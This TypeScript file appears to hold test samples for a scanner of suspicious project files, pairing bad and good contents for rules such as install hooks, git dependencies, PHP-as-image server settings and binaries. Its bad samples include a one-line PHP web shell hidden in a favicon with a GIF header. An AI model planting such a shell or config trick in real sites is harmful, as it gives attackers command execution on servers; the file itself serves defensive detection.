import type { Sample } from "./sample.ts";

const file = (rule: string, title: string, path: string, bad: string, good: string): Sample => ({
  rule,
  title,
  path,
  bad,
  good,
});

/** What lies beside code. */
export const fileSamples: readonly Sample[] = [
  file(
    "install-script",
    "postinstall",
    "package.json",
    '{"scripts": {"postinstall": "node setup.js"}}',
    '{"scripts": {"test": "node --test"}}',
  ),
  file(
    "composer-script",
    "post-install-cmd",
    "composer.json",
    '{"scripts": {"post-install-cmd": "php x.php"}}',
    '{"scripts": {"test": "phpunit"}}',
  ),
  file(
    "remote-dependency",
    "a dependency from git",
    "package.json",
    '{"dependencies": {"a": "git+https://x.example/a.git"}}',
    '{"dependencies": {"a": "1.0.0"}}',
  ),
  file(
    "build-code",
    "a build backend in the tree",
    "pyproject.toml",
    'backend-path = ["tools"]\n',
    'build-backend = "hatchling.build"\n',
  ),
  file("server-config", "pictures as PHP", ".htaccess", "AddType application/x-httpd-php .png\n", "Deny from all\n"),
  file(
    "server-config",
    "a file before every other",
    "web/.user.ini",
    "auto_prepend_file = x.png\n",
    "memory_limit = 64M\n",
  ),
  file("code-disguised", "PHP in an icon", "assets/favicon.ico", "GIF89a<?php system($_GET[0]);", "GIF89a"),
  file("program", "an ELF file", "bin/helper", "\x7fELF\x02\x01", "#!/bin/sh\n"),
  file("program", "WebAssembly", "lib/x", "\0asm\x01", "text"),
  file("not-read", "no PHP", "a.php", "<?php function {", "<?php function a() {}"),
  file("not-read", "nested too deep", "a.js", `${"[".repeat(50_000)}${"]".repeat(50_000)}`, "[[]]"),
];
